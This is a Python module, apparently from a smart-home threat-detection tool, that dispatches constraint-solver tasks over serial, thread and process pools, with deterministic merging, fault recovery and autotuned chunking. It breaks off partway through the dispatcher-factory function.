"""Batched solver dispatch (plan/execute detection, DESIGN.md §9).

Detection planning (:meth:`repro.detector.engine.DetectionEngine
.detect_signed_batch`) walks the candidate tests without calling the
solver and emits one :class:`SolveTask` per cache-missing constraint
instance.  Tasks are pure data — a :class:`~repro.constraints.solver
.VarPool` plus a :class:`~repro.constraints.terms.BoolFormula`, both
built from frozen dataclasses — so a batch can be executed anywhere: in
the calling thread, on a thread pool, or pickled out to a process pool.

The contract every backend must honour (and the equivalence tests
enforce) is *deterministic merge*: outcomes are keyed by task, callers
read them by key and commit results in their own (serial) planning
order, so completion order never influences threat reports, solve
caches or persisted store bytes — they are identical for every backend
and worker count.

Backends
--------

* :class:`SerialDispatcher` — executes tasks inline, in submission
  order; the default and the semantic reference.
* :class:`ThreadPoolDispatcher` — ``concurrent.futures`` threads.  The
  solver is pure Python, so the GIL caps the speedup; useful mainly as
  a cheap determinism cross-check and to overlap I/O-heavy callers.
* :class:`ProcessPoolDispatcher` — worker processes; tasks are pickled
  over in chunks.  This is the backend that turns the solver loop into
  a real fan-out (the store-scale benchmark's worker sweep).

Pooled backends execute *streamed*: the planner hands tasks over as it
discovers them (:meth:`SolverDispatcher.stream`), so workers solve the
first candidate pairs while the planner is still walking the last ones
— planning and solving overlap instead of strictly alternating.

Parallel planning (DESIGN.md §10)
---------------------------------

Since the parallel-planning refactor the *planning* passes fan out too:
pooled backends shard a batch's candidate-pair list into picklable
:class:`PlanTask` chunks that workers plan independently — each chunk
walks its pairs against the batch solve access, builds the cache-missing
constraint instances, solves them locally, and returns a
:class:`PlanResult` with the outcomes plus locally-resolved planning
verdicts (inexpressible effects, deferred pairs).  The coordinator
merges results in chunk order, so the batch state after a round is
identical to the single-planner walk — formulas never cross the wire
back and forth, only signatures go out and small outcomes come home.

:class:`AutoDispatcher` (``make_dispatcher("auto")``) adds adaptive
backend selection on top: batches below :data:`AUTO_MIN_BATCH_PAIRS`
candidate pairs run on the serial reference (a single install review is
too small to amortize worker fan-out), larger ones on a process pool
sized from ``os.cpu_count()``.

Executors are created lazily and reused across batches; call
:meth:`~SolverDispatcher.close` (or use the dispatcher as a context
manager) to release workers deterministically.
"""

from __future__ import annotations

import os
import pickle
import time
import warnings
from collections import deque
from concurrent.futures import (
    BrokenExecutor,
    Executor,
    ProcessPoolExecutor,
    ThreadPoolExecutor,
)
from concurrent.futures import TimeoutError as _FuturesTimeout
from dataclasses import dataclass
from typing import Iterable, Iterator, Sequence

from repro.constraints.solver import Result, Solver, VarPool
from repro.constraints.terms import BoolFormula
from repro.testing.faults import fault_hook, shielded as _fault_shield

# A task key names one solve-cache slot: ("situation" | "condition",
# rule_id_lo, rule_id_hi) with the ids sorted (those caches are keyed by
# unordered pairs), or ("effect", rule_id_a, rule_id_b) in rule order.
TaskKey = tuple[str, str, str]

# Tasks per worker message: one solve is ~0.1-0.2 ms, so chunking keeps
# the pickle/IPC overhead per solve well under the solve itself.
_CHUNK_TASKS = 64

# Candidate pairs per planning chunk: planning one pair costs ~0.1 ms
# (candidate tests + constraint lowering for cache misses), so a chunk
# is a few ms of work — enough to amortize pickling its signatures.
_PLAN_CHUNK_PAIRS = 96

# Autotuning (DESIGN.md §12): dispatchers created with ``autotune=True``
# re-derive both chunk sizes from the previous batch's observed costs,
# targeting this many seconds of work per worker message; the clamps
# keep a pathological measurement (one 50 ms solve, a zero-cost plan
# round) from collapsing or exploding the chunking.  Chunk sizes only
# shape scheduling — results are byte-identical at any size, which the
# fixed-chunk equivalence arms already prove.
_TARGET_CHUNK_SECONDS = 0.008
_CHUNK_TASKS_MIN, _CHUNK_TASKS_MAX = 8, 512
_PLAN_CHUNK_PAIRS_MIN, _PLAN_CHUNK_PAIRS_MAX = 16, 1024

# Below this many candidate pairs the auto backend stays serial: one
# install review's batch is too small to pay for process fan-out.
AUTO_MIN_BATCH_PAIRS = 256

# Fault tolerance (DESIGN.md §15): after this many failed worker
# messages within one detection batch a pooled dispatcher trips into
# serial-degraded mode — the rest of the batch executes inline in the
# coordinator, which is always correct (the serial reference), just
# slower.  for_batch() re-arms the pool for the next batch.
_MAX_POOL_FAILURES = 8

# The four recovery counters.  Semantics (each event counted exactly
# once, DESIGN.md §15):
#   pool_failures   — failed chunk executions: a worker message (or the
#                     serial reference's inline chunk) that raised,
#                     died with its worker, or overran solve_timeout.
#   chunks_requeued — chunks re-executed after a failure, whether
#                     resubmitted to the pool (split halves count
#                     individually) or re-run inline.
#   tasks_retried   — individual solve tasks re-executed after a
#                     failure, counted once per re-execution.
#   degraded_serial — times a dispatcher tripped into serial-degraded
#                     mode for the remainder of a batch.
_FAULT_FIELDS = (
    "tasks_retried",
    "chunks_requeued",
    "pool_failures",
    "degraded_serial",
)


class FaultCounters:
    """A small bundle of recovery-event counters."""

    __slots__ = _FAULT_FIELDS

    def __init__(self) -> None:
        for name in _FAULT_FIELDS:
            setattr(self, name, 0)

    def add(self, field: str, n: int = 1) -> None:
        setattr(self, field, getattr(self, field) + n)

    def snapshot(self) -> dict[str, int]:
        return {name: getattr(self, name) for name in _FAULT_FIELDS}

    def take(self) -> dict[str, int]:
        snap = self.snapshot()
        for name in _FAULT_FIELDS:
            setattr(self, name, 0)
        return snap


class _FaultState:
    """Per-dispatcher recovery state.

    ``delta`` is drained by the detection engine into the batch's
    :class:`~repro.detector.engine.DetectionStats` (exactly once);
    ``totals`` never resets and feeds the service-level status record,
    so counts survive tenant-home eviction."""

    __slots__ = ("delta", "totals", "batch_failures", "degraded")

    def __init__(self) -> None:
        self.delta = FaultCounters()
        self.totals = FaultCounters()
        self.batch_failures = 0
        self.degraded = False


@dataclass(frozen=True, slots=True)
class SolveTask:
    """One deferred solver call: everything needed to decide it.

    Picklable by construction (pool and formula are plain frozen
    dataclasses over builtins), so process backends can ship it to a
    worker without touching any engine state."""

    key: TaskKey
    pool: VarPool
    formula: BoolFormula


@dataclass(frozen=True, slots=True)
class SolveOutcome:
    """A task's result plus the solver CPU seconds it cost.

    ``shared`` marks a verdict served from the shared cross-tenant
    solve cache (DESIGN.md §12) instead of an executed task; the
    finalize pass attributes it to ``shared_cache_hits`` rather than
    ``solver_calls``, and it contributes no solver CPU."""

    result: Result
    seconds: float
    shared: bool = False


def execute_task(task: SolveTask) -> tuple[TaskKey, SolveOutcome]:
    """Solve one task.  Module-level so process pools can pickle it."""
    started = time.perf_counter()
    result = Solver(task.pool).solve(task.formula)
    return task.key, SolveOutcome(result, time.perf_counter() - started)


def execute_chunk(
    tasks: Sequence[SolveTask],
) -> list[tuple[TaskKey, SolveOutcome]]:
    """Solve a chunk of tasks (one worker message)."""
    fault_hook("dispatch.chunk", size=len(tasks))
    return [execute_task(task) for task in tasks]


def _execute_chunk_inline(
    tasks: Sequence[SolveTask],
) -> dict[TaskKey, SolveOutcome]:
    """Authoritative coordinator-side re-execution of a lost chunk.

    Runs with ``dispatch.*`` fault injection shielded: the inline
    fallback models the coordinator's own process, which worker-boundary
    faults cannot reach — and it guarantees recovery terminates even
    under an every-call fault plan.  The solver is deterministic, so the
    re-executed outcomes are byte-identical to what the lost worker
    would have returned (only the timing differs, which never reaches
    persisted bytes)."""
    with _fault_shield("dispatch."):
        return dict(execute_chunk(tasks))


# Per-pair cache knowledge shipped with a plan chunk, as small ints:
# situation/condition verdicts are -1 unknown / 0 unsat / 1 sat, the
# two directed effect slots additionally use 2 for a cached
# inexpressible-effect ``None``.
PairKnowledge = tuple[int, int, int, int]

KNOWN_UNKNOWN = -1
KNOWN_UNSAT = 0
KNOWN_SAT = 1
KNOWN_INEXPRESSIBLE = 2


@dataclass(frozen=True, slots=True)
class PlanTask:
    """One planning chunk: a shard of a batch's candidate-pair list.

    Pure data by construction — ``pairs`` holds frozen
    :class:`~repro.detector.signature.RuleSignature` pairs, ``known``
    the per-pair cache verdicts the coordinating engine already holds,
    and ``resolver`` either the live resolver object (thread backends)
    or its pickled bytes (process backends; workers memoize the decoded
    object per process, so a 2k-app resolver is decoded once, not once
    per chunk).  A worker plans the chunk against a scratch engine
    seeded from ``known`` and solves every task it planned locally, so
    formulas are built *and* decided worker-side.

    ``cache`` optionally carries the coordinator's shared solve-cache
    backend — live object for in-process backends, an
    :meth:`~repro.constraints.solvecache.SolveCacheBackend.encode`
    payload across a pickle boundary, or ``None`` when the backend
    cannot travel (workers then plan without shared-cache consults)."""

    pairs: tuple
    known: tuple[PairKnowledge, ...]
    resolver: object
    cache: object = None


@dataclass(frozen=True, slots=True)
class PlanResult:
    """What one planned chunk resolved.

    ``outcomes`` are the chunk's resolved solves in planning order —
    executed tasks plus any verdicts served from the shared solve
    cache (flagged on the :class:`SolveOutcome`); ``inexpressible`` the
    effect task keys planning proved undecidable without a solver;
    ``deferred`` the chunk-local indices of pairs that need another
    planning round (their condition solve waits on this round's
    situation verdict, paper Fig. 9); ``plan_seconds`` the worker CPU
    spent planning (solve CPU lives in each outcome); ``publishable``
    the ``(shared_key, entry)`` pairs for solves the worker executed
    after a shared-cache miss — the *coordinator* publishes them, so
    ``shared_cache_publishes`` is attributed exactly once."""

    outcomes: tuple[tuple[TaskKey, SolveOutcome], ...]
    inexpressible: tuple[TaskKey, ...]
    deferred: tuple[int, ...]
    plan_seconds: float
    publishable: tuple[tuple[str, dict], ...] = ()


# Decoded-resolver memo for process plan workers, keyed by the pickled
# payload; one batch ships the same payload in every chunk.
_RESOLVER_MEMO: dict[bytes, object] = {}


def resolver_from_payload(payload: object) -> object:
    """The live resolver a plan chunk should plan against."""
    if not isinstance(payload, bytes):
        return payload
    cached = _RESOLVER_MEMO.get(payload)
    if cached is None:
        if len(_RESOLVER_MEMO) >= 4:
            _RESOLVER_MEMO.clear()
        cached = _RESOLVER_MEMO[payload] = pickle.loads(payload)
    return cached


def execute_plan_task(task: PlanTask) -> PlanResult:
    """Plan one chunk.  Module-level so process pools can pickle it;
    the engine import is deferred to break the import cycle (the
    detector engine imports this module)."""
    from repro.detector.engine import plan_pair_chunk

    return plan_pair_chunk(task)


def _recovered_chunk(
    tasks: Sequence[SolveTask],
    dispatcher: "SolverDispatcher | None",
) -> dict[TaskKey, SolveOutcome]:
    """Serial-reference chunk execution with inline recovery.

    A chunk that raises is counted as one failed execution and
    re-executed inline (shielded), task by task, exactly once."""
    if not tasks:
        return {}
    try:
        return dict(execute_chunk(tasks))
    except Exception:
        if dispatcher is None:
            raise
        dispatcher._record_fault("pool_failures")
        dispatcher._record_fault("chunks_requeued")
        dispatcher._record_fault("tasks_retried", len(tasks))
        return _execute_chunk_inline(tasks)


class DispatchStream:
    """One round of solves in flight.

    :meth:`submit` hands freshly planned tasks to the backend (pooled
    backends start solving immediately); :meth:`collect` blocks until
    everything submitted is solved and returns outcomes keyed by task.
    The serial reference implementation simply buffers and solves in
    submission order at collect time."""

    def __init__(self, dispatcher: "SolverDispatcher | None" = None) -> None:
        self._dispatcher = dispatcher
        self._buffered: list[SolveTask] = []

    def submit(self, tasks: Iterable[SolveTask]) -> None:
        self._buffered.extend(tasks)

    def collect(self) -> dict[TaskKey, SolveOutcome]:
        tasks, self._buffered = self._buffered, []
        if self._dispatcher is None:
            return dict(execute_chunk(tasks))
        return _recovered_chunk(tasks, self._dispatcher)


class _PooledStream(DispatchStream):
    """Streams task chunks onto an executor as they are submitted.

    Recovery (DESIGN.md §15): :meth:`collect` drains in-flight chunks
    through a work queue.  A chunk whose future raises is requeued —
    split into halves and resubmitted, down to singletons so a poison
    task is isolated — and a broken executor is rebuilt on the way; a
    chunk that overruns ``solve_timeout`` is abandoned and its tasks
    re-executed inline in the coordinator.  Once the dispatcher trips
    into degraded mode every remaining chunk runs inline.  Outcomes are
    merged into a key-addressed dict, so a task solved both by a slow
    worker and by its retry commits exactly once — and identically,
    because the solver is deterministic."""

    def __init__(self, dispatcher: "_PooledDispatcher") -> None:
        super().__init__(dispatcher)
        self._chunk_tasks = dispatcher.chunk_tasks
        dispatcher._executor_or_start()
        # (future | None, chunk) pairs; future is None for chunks that
        # never went to the pool (submitted while degraded).
        self._inflight: deque = deque()

    def _submit_chunk(self, chunk: list[SolveTask]) -> None:
        dispatcher = self._dispatcher
        if dispatcher.degraded:
            self._inflight.append((None, chunk))
            return
        try:
            future = dispatcher._executor_or_start().submit(
                execute_chunk, chunk
            )
        except BrokenExecutor:
            dispatcher._reset_executor()
            future = dispatcher._executor_or_start().submit(
                execute_chunk, chunk
            )
        self._inflight.append((future, chunk))

    def submit(self, tasks: Iterable[SolveTask]) -> None:
        self._buffered.extend(tasks)
        while len(self._buffered) >= self._chunk_tasks:
            chunk = self._buffered[: self._chunk_tasks]
            del self._buffered[: self._chunk_tasks]
            self._submit_chunk(chunk)

    def collect(self) -> dict[TaskKey, SolveOutcome]:
        if self._buffered:
            chunk, self._buffered = self._buffered, []
            self._submit_chunk(chunk)
        dispatcher = self._dispatcher
        outcomes: dict[TaskKey, SolveOutcome] = {}
        while self._inflight:
            future, chunk = self._inflight.popleft()
            if future is None:
                # Queued while degraded: first execution, serial path.
                outcomes.update(_recovered_chunk(chunk, dispatcher))
                continue
            try:
                outcomes.update(future.result(timeout=dispatcher.solve_timeout))
                continue
            except _FuturesTimeout:
                # Hung solve: abandon the worker's copy and re-execute
                # inline.  If the worker finishes later its (identical)
                # result is simply discarded with the future.
                dispatcher._note_pool_failure()
                future.cancel()
            except Exception as exc:
                dispatcher._note_pool_failure()
                if isinstance(exc, BrokenExecutor):
                    # The pool died (worker crash); discard it so the
                    # next submission forks a fresh one.  Sibling
                    # futures on the dead pool will fail on their turn
                    # and be requeued the same way.
                    dispatcher._reset_executor()
                if not dispatcher.degraded and len(chunk) > 1:
                    # Split-and-retry: isolate a poison task by
                    # resubmitting ever-smaller halves.
                    mid = len(chunk) // 2
                    for half in (chunk[:mid], chunk[mid:]):
                        dispatcher._record_fault("chunks_requeued")
                        dispatcher._record_fault("tasks_retried", len(half))
                        self._submit_chunk(half)
                    continue
                if len(chunk) == 1 and not dispatcher.degraded:
                    warnings.warn(
                        f"solve task {chunk[0].key!r} failed on the "
                        f"{dispatcher.name} pool; re-executing inline "
                        "in the coordinator",
                        RuntimeWarning,
                        stacklevel=2,
                    )
            # Timeout, singleton failure, or degraded: the coordinator
            # re-executes the chunk inline, exactly once.
            dispatcher._record_fault("chunks_requeued")
            dispatcher._record_fault("tasks_retried", len(chunk))
            outcomes.update(_execute_chunk_inline(chunk))
        return outcomes


class SolverDispatcher:
    """Executes solve tasks; base class and serial reference."""

    name = "serial"
    workers = 1
    # Whether planning passes are sharded onto this backend's workers
    # (DESIGN.md §10).  The serial reference plans inline against the
    # live engine — the semantics every other mode must reproduce.
    plans_remotely = False
    # Candidate pairs per PlanTask chunk when planning remotely.
    plan_chunk_pairs = _PLAN_CHUNK_PAIRS
    # Per-chunk deadline in seconds (None = wait forever): a pooled
    # chunk whose future has not resolved within this long is abandoned
    # and its tasks re-executed inline (DESIGN.md §15).
    solve_timeout: float | None = None
    # Failed worker messages per batch before degrading to serial.
    max_pool_failures = _MAX_POOL_FAILURES

    # -- fault accounting (DESIGN.md §15) ------------------------------

    def _fault_state(self) -> _FaultState:
        # Lazily attached so subclasses never need to chain __init__.
        state = self.__dict__.get("_faults")
        if state is None:
            state = self.__dict__["_faults"] = _FaultState()
        return state

    @property
    def degraded(self) -> bool:
        """True while this dispatcher is in serial-degraded mode."""
        return self._fault_state().degraded

    def _record_fault(self, field: str, n: int = 1) -> None:
        state = self._fault_state()
        state.delta.add(field, n)
        state.totals.add(field, n)

    def _note_pool_failure(self) -> None:
        """Count one failed worker message; trip degraded mode once the
        batch has burned through ``max_pool_failures`` of them."""
        state = self._fault_state()
        self._record_fault("pool_failures")
        state.batch_failures += 1
        if not state.degraded and state.batch_failures >= self.max_pool_failures:
            state.degraded = True
            self._record_fault("degraded_serial")
            warnings.warn(
                f"{self.name} dispatcher hit {state.batch_failures} pool "
                "failures in one batch; degrading to serial execution "
                "for the remainder of the batch",
                RuntimeWarning,
                stacklevel=3,
            )

    def _begin_batch(self) -> None:
        state = self._fault_state()
        state.batch_failures = 0
        state.degraded = False

    def take_fault_counters(self) -> dict[str, int]:
        """Drain the recovery counters accumulated since the last take.

        The detection engine calls this once per batch and folds the
        deltas into that batch's :class:`DetectionStats`, so every
        event lands in exactly one batch's stats."""
        return self._fault_state().delta.take()

    def fault_totals(self) -> dict[str, int]:
        """Lifetime recovery totals (never reset; status reporting)."""
        return self._fault_state().totals.snapshot()

    def for_batch(self, pair_count: int) -> "SolverDispatcher":
        """The backend to use for a batch of ``pair_count`` candidate
        pairs — adaptive dispatchers pick per batch, everything else
        returns itself.  Also re-arms fault-recovery state: degraded
        mode lasts for the remainder of one batch only."""
        self._begin_batch()
        return self

    def encode_resolver(self, resolver: object) -> object | None:
        """Prepare a resolver for shipping inside :class:`PlanTask`s.

        Returns ``None`` when the resolver cannot travel to this
        backend's workers, which makes the engine fall back to inline
        planning (solve dispatch is unaffected — :class:`SolveTask`\\ s
        are picklable by construction)."""
        return resolver

    def encode_cache(self, cache: object) -> object | None:
        """Prepare a shared solve-cache backend for shipping inside
        :class:`PlanTask`\\ s.  In-process backends travel as the live
        object; process backends override this to ask the backend for a
        picklable payload (``None`` = workers skip shared-cache
        consults; solving is unaffected)."""
        return cache

    def observe_batch(
        self,
        plan_cpu: float,
        pairs: int,
        solves: int,
        solve_cpu: float,
    ) -> None:
        """Feedback after a detection batch: summed planning CPU over
        ``pairs`` candidate pairs and summed solver CPU over ``solves``
        executed tasks.  Autotuning backends re-derive their chunk
        sizes from it; the base class ignores it."""

    def plan_stream(
        self, tasks: Sequence[PlanTask]
    ) -> Iterator[PlanResult]:
        """Plan chunks, yielding results in submission order.  The
        serial reference plans lazily, one chunk per pull."""
        return (execute_plan_task(task) for task in tasks)

    def stream(self) -> DispatchStream:
        """A fresh stream for one round of planned tasks."""
        return DispatchStream(self)

    def run(
        self, tasks: Sequence[SolveTask]
    ) -> dict[TaskKey, SolveOutcome]:
        """Execute a ready-made task list (non-streamed convenience)."""
        stream = self.stream()
        stream.submit(tasks)
        return stream.collect()

    def close(self) -> None:
        """Release any pooled workers (no-op for the serial backend)."""

    def __enter__(self) -> "SolverDispatcher":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()

    def __repr__(self) -> str:
        return f"{type(self).__name__}(workers={self.workers})"


class SerialDispatcher(SolverDispatcher):
    """In-order, in-process execution — byte-identical to the engine
    solving inline, and the reference the parallel backends are tested
    against."""


class _PooledDispatcher(SolverDispatcher):
    """Shared lazy-executor plumbing for thread/process backends."""

    plans_remotely = True

    def __init__(
        self,
        workers: int = 4,
        chunk_tasks: int = _CHUNK_TASKS,
        plan_chunk_pairs: int = _PLAN_CHUNK_PAIRS,
        autotune: bool = False,
        solve_timeout: float | None = None,
        max_pool_failures: int = _MAX_POOL_FAILURES,
    ) -> None:
        if workers < 1:
            raise ValueError(f"workers must be >= 1, got {workers}")
        if chunk_tasks < 1:
            raise ValueError(f"chunk_tasks must be >= 1, got {chunk_tasks}")
        if plan_chunk_pairs < 1:
            raise ValueError(
                f"plan_chunk_pairs must be >= 1, got {plan_chunk_pairs}"
            )
        if solve_timeout is not None and solve_timeout <= 0:
            raise ValueError(
                f"solve_timeout must be > 0 or None, got {solve_timeout}"
            )
        if max_pool_failures < 1:
            raise ValueError(
                f"max_pool_failures must be >= 1, got {max_pool_failures}"
            )
        self.workers = workers
        self.chunk_tasks = chunk_tasks
        self.plan_chunk_pairs = plan_chunk_pairs
        self.solve_timeout = solve_timeout
        self.max_pool_failures = max_pool_failures
        # With autotune on, observe_batch() re-derives both chunk sizes
        # from each batch's measured plan/solve costs; explicit
        # chunk_tasks/plan_chunk_pairs settings stay fixed otherwise.
        self.autotune = autotune
        self._executor: Executor | None = None

    def observe_batch(
        self,
        plan_cpu: float,
        pairs: int,
        solves: int,
        solve_cpu: float,
    ) -> None:
        """Retarget both chunk sizes at :data:`_TARGET_CHUNK_SECONDS`
        of measured work per worker message (DESIGN.md §12).  Cheap
        solves pack more per message (less IPC per solve), expensive
        solves spread thinner (better load balance); likewise for
        planning chunks.  Results never depend on chunk sizes, so the
        adaptation is a pure scheduling change."""
        if not self.autotune:
            return
        if solves > 0 and solve_cpu > 0.0:
            per_solve = solve_cpu / solves
            self.chunk_tasks = max(
                _CHUNK_TASKS_MIN,
                min(_CHUNK_TASKS_MAX, int(_TARGET_CHUNK_SECONDS / per_solve)),
            )
        if pairs > 0 and plan_cpu > 0.0:
            per_pair = plan_cpu / pairs
            self.plan_chunk_pairs = max(
                _PLAN_CHUNK_PAIRS_MIN,
                min(
                    _PLAN_CHUNK_PAIRS_MAX,
                    int(_TARGET_CHUNK_SECONDS / per_pair),
                ),
            )

    def _make_executor(self) -> Executor:
        raise NotImplementedError

    def _executor_or_start(self) -> Executor:
        if self._executor is None:
            self._executor = self._make_executor()
        return self._executor

    def _reset_executor(self) -> None:
        """Discard a broken executor; the next submission forks fresh
        workers.  ``wait=False``: the pool is already dead."""
        if self._executor is not None:
            self._executor.shutdown(wait=False)
            self._executor = None

    def _plan_inline(self, task: PlanTask) -> PlanResult:
        """Coordinator-side re-planning of a lost plan chunk (shielded,
        like :func:`_execute_chunk_inline`; planning is deterministic,
        so the result matches what the lost worker would have sent)."""
        with _fault_shield("dispatch."):
            return execute_plan_task(task)

    def plan_stream(
        self, tasks: Sequence[PlanTask]
    ) -> Iterator[PlanResult]:
        if self.degraded:
            def degraded_results() -> Iterator[PlanResult]:
                for task in tasks:
                    try:
                        yield execute_plan_task(task)
                    except Exception:
                        self._record_fault("pool_failures")
                        self._record_fault("chunks_requeued")
                        yield self._plan_inline(task)

            return degraded_results()
        pending: list[tuple] = []
        for task in tasks:
            try:
                future = self._executor_or_start().submit(
                    execute_plan_task, task
                )
            except BrokenExecutor:
                self._reset_executor()
                future = self._executor_or_start().submit(
                    execute_plan_task, task
                )
            pending.append((future, task))

        def results() -> Iterator[PlanResult]:
            for future, task in pending:
                try:
                    yield future.result(timeout=self.solve_timeout)
                    continue
                except _FuturesTimeout:
                    self._note_pool_failure()
                    future.cancel()
                except Exception as exc:
                    self._note_pool_failure()
                    if isinstance(exc, BrokenExecutor):
                        self._reset_executor()
                # Plan chunks are never split (they are already small);
                # the coordinator re-plans the chunk inline, preserving
                # the chunk-order merge.
                self._record_fault("chunks_requeued")
                yield self._plan_inline(task)

        return results()

    def stream(self) -> DispatchStream:
        if self.degraded:
            return DispatchStream(self)
        return _PooledStream(self)

    def close(self) -> None:
        if self._executor is not None:
            self._executor.shutdown(wait=True)
            self._executor = None


class ThreadPoolDispatcher(_PooledDispatcher):
    """Thread-pool execution (GIL-bound; determinism cross-check and
    overlap with I/O-heavy callers)."""

    name = "thread"

    def _make_executor(self) -> Executor:
        return ThreadPoolExecutor(max_workers=self.workers)


class ProcessPoolDispatcher(_PooledDispatcher):
    """Process-pool execution; tasks and results cross a pickle
    boundary, which :class:`SolveTask` supports by construction."""

    name = "process"

    def _make_executor(self) -> Executor:
        return ProcessPoolExecutor(max_workers=self.workers)

    def encode_resolver(self, resolver: object) -> object | None:
        """Pickle the resolver once per batch; every chunk ships the
        same bytes and workers decode them once per process.  An
        unpicklable resolver (e.g. one closed over live handles)
        returns ``None`` — the engine then plans inline, exactly the
        pre-parallel-planning behavior, while solving still fans out.
        The fallback warns so "why is planning serial?" is
        diagnosable."""
        try:
            return pickle.dumps(resolver)
        except Exception as exc:
            warnings.warn(
                f"resolver of type {type(resolver).__name__} is not "
                f"picklable ({type(exc).__name__}: {exc}); planning "
                "falls back to the inline serial path while solve "
                "dispatch stays pooled",
                RuntimeWarning,
                stacklevel=2,
            )
            return None

    def encode_cache(self, cache: object) -> object | None:
        """Ask the backend for a payload workers can reopen it from
        (e.g. the SQLite cache's file path).  In-process-only backends
        answer ``None``: plan workers then skip shared-cache consults
        while the coordinator keeps consulting and publishing."""
        if cache is None:
            return None
        return cache.encode()


class AutoDispatcher(SolverDispatcher):
    """Adaptive backend selection (DESIGN.md §10).

    :meth:`for_batch` picks per detection batch: below ``min_batch``
    candidate pairs (or on single-CPU hosts) the serial reference runs
    — an install review's handful of pairs never amortizes worker
    fan-out — and above it a lazily created
    :class:`ProcessPoolDispatcher` sized from ``os.cpu_count()``
    (capped at 8: the solver loop stops scaling past that) takes over.
    Byte-identical results either way, per the §9 guarantee."""

    name = "auto"

    def __init__(
        self,
        workers: int | None = None,
        min_batch: int = AUTO_MIN_BATCH_PAIRS,
        solve_timeout: float | None = None,
        max_pool_failures: int = _MAX_POOL_FAILURES,
    ) -> None:
        cpus = os.cpu_count() or 1
        if workers is not None and workers < 1:
            raise ValueError(f"workers must be >= 1, got {workers}")
        self.workers = workers if workers is not None else min(cpus, 8)
        self.min_batch = min_batch
        self.solve_timeout = solve_timeout
        self.max_pool_failures = max_pool_failures
        self._serial = SerialDispatcher()
        self._pool: ProcessPoolDispatcher | None = None

    def for_batch(self, pair_count: int) -> SolverDispatcher:
        if self.workers < 2 or pair_count < self.min_batch:
            return self._serial.for_batch(pair_count)
        if self._pool is None:
            # The adaptive backend also adapts its chunking: each
            # batch's observed plan/solve costs retune the pool's
            # chunk_tasks / plan_chunk_pairs for the next one
            # (DESIGN.md §12) instead of trusting the fixed defaults.
            self._pool = ProcessPoolDispatcher(
                self.workers,
                autotune=True,
                solve_timeout=self.solve_timeout,
                max_pool_failures=self.max_pool_failures,
            )
        return self._pool.for_batch(pair_count)

    def take_fault_counters(self) -> dict[str, int]:
        merged = self._serial.take_fault_counters()
        if self._pool is not None:
            for field, count in self._pool.take_fault_counters().items():
                merged[field] += count
        return merged

    def fault_totals(self) -> dict[str, int]:
        merged = self._serial.fault_totals()
        if self._pool is not None:
            for field, count in self._pool.fault_totals().items():
                merged[field] += count
        return merged

    def stream(self) -> DispatchStream:
        # Direct (non-batch-sized) use falls back to the serial
        # reference; detection always routes through for_batch().
        return self._serial.stream()

    def close(self) -> None:
        if self._pool is not None:
            self._pool.close()
            self._pool = None

    def __repr__(self) -> str:
        return (
            f"AutoDispatcher(workers={self.workers}, "
            f"min_batch={self.min_batch})"
        )


class SolveBatch:
    """An ordered, key-deduplicated collection of :class:`SolveTask`s
    and the outcomes of the rounds executed so far.

    Planning may run in several rounds (a condition solve is only
    needed once the pair's situation solve came back UNSAT, mirroring
    the serial engine's Fig. 9 reuse), so the batch tracks which tasks
    are still unexecuted; :meth:`take_pending` feeds exactly those to a
    dispatch stream and :meth:`absorb` merges the stream's outcomes."""

    __slots__ = ("_tasks", "_pending", "requested", "outcomes")

    def __init__(self) -> None:
        self._tasks: list[SolveTask] = []
        self._pending: list[SolveTask] = []
        self.requested: set[TaskKey] = set()
        self.outcomes: dict[TaskKey, SolveOutcome] = {}

    def __len__(self) -> int:
        return len(self._tasks)

    def __iter__(self):
        return iter(self._tasks)

    @property
    def pending(self) -> int:
        return len(self._pending)

    def add(self, task: SolveTask) -> bool:
        """Queue a task unless its key is already requested."""
        if task.key in self.requested:
            return False
        self.requested.add(task.key)
        self._tasks.append(task)
        self._pending.append(task)
        return True

    def take_pending(self) -> list[SolveTask]:
        """Pop the tasks queued since the last call (stream feed)."""
        tasks, self._pending = self._pending, []
        return tasks

    def absorb(self, outcomes: dict[TaskKey, SolveOutcome]) -> None:
        self.outcomes.update(outcomes)

    def absorb_planned(
        self, outcomes: Iterable[tuple[TaskKey, SolveOutcome]]
    ) -> int:
        """Merge outcomes a plan worker solved locally (fused
        plan+solve, DESIGN.md §10); returns how many keys were new —
        the batch's progress measure for the stall check."""
        fresh = 0
        for key, outcome in outcomes:
            if key not in self.requested:
                self.requested.add(key)
                fresh += 1
            self.outcomes[key] = outcome
        return fresh

    def outcome(self, key: TaskKey) -> SolveOutcome | None:
        return self.outcomes.get(key)

    def execute(self, dispatcher: SolverDispatcher) -> float:
        """Run every not-yet-executed task in one go; returns the wall
        seconds the dispatch took (non-streamed convenience)."""
        tasks = self.take_pending()
        if not tasks:
            return 0.0
        started = time.perf_counter()
        self.absorb(dispatcher.run(tasks))
        return time.perf_counter() - started


def make_dispatcher(
    workers: int | str | SolverDispatcher | None,
) -> SolverDispatcher | None:
    """Resolve a user-facing ``workers=`` setting into a dispatcher.

    * ``None`` — no batching: the engine keeps its inline solve path.
    * ``"auto"`` / ``"auto:N"`` — :class:`AutoDispatcher`: serial for
      small batches, a cpu-sized (or ``N``-worker) process pool above
      :data:`AUTO_MIN_BATCH_PAIRS` pairs.  The HomeGuard default.
    * ``"serial"`` / ``1`` — plan/execute with :class:`SerialDispatcher`
      (same results, one batch per detection run).
    * an ``int > 1`` — :class:`ProcessPoolDispatcher` with that many
      workers (the backend that actually scales the solver loop).
    * ``"thread"`` / ``"thread:N"`` / ``"process"`` / ``"process:N"`` —
      explicit backend choice (default 4 workers).
    * a :class:`SolverDispatcher` instance — used as-is.
    """
    def unknown(problem: str = "") -> ValueError:
        detail = f" ({problem})" if problem else ""
        return ValueError(
            f"invalid dispatcher spec {workers!r}{detail}; valid specs: "
            "None (inline solves), a positive int (process workers), "
            "'serial', 'thread[:N]', 'process[:N]', 'auto[:N]' with "
            "N >= 1, or a SolverDispatcher instance"
        )

    if workers is None:
        return None
    if isinstance(workers, SolverDispatcher):
        return workers
    if isinstance(workers, int):
        if workers < 1:
            raise unknown("worker count must be >= 1")
        if workers == 1:
            return SerialDispatcher()
        return ProcessPoolDispatcher(workers)
    spec = str(workers).strip().lower()
    name, _, count_text = spec.partition(":")
    if name not in ("auto", "serial", "thread", "process"):
        raise unknown(f"unknown backend name {name!r}")
    if name == "auto":
        try:
            count = int(count_text) if count_text else None
        except ValueError:
            raise unknown(f"worker count {count_text!r} is not an int") \
                from None
        if count is not None and count < 1:
            raise unknown("worker count must be >= 1")
        return AutoDispatcher(workers=count)
    try:
